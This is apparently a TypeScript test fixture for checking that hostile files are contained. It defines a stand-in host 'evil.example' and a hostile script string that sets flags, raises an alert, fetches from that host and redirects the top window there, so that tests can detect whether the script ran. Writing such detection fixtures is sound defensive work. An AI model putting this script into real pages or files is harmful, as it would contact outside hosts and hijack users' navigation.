/** What hostile files try. Whoever runs one of them leaves a trace that a test sees. */

/** No request may reach it. */
export const host = 'evil.example'

/** Would show that it ran, and send what it finds. */
export const script = `window.hostileRan=1;top.hostileRan=1;top.document.title='hostile';alert(1);fetch('https://${host}/script');top.location='https://${host}/top'`

export const away = (name: string) => `https://${host}/${name}`
